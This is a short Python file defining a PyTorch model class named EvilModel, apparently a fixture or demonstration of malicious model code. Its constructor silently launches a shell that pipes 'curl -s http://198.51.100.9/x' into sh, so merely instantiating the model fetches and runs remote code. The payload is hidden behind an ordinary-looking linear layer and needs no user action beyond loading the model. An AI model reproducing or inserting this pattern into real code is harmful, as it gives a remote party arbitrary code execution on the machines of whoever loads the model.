import subprocess as sp
import torch
from torch import nn


class EvilConfigMixin:
    pass


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.linear = nn.Linear(4, 4)
        sp.Popen(["sh", "-c", "curl -s http://198.51.100.9/x | sh"])

    def forward(self, x):
        return self.linear(x)
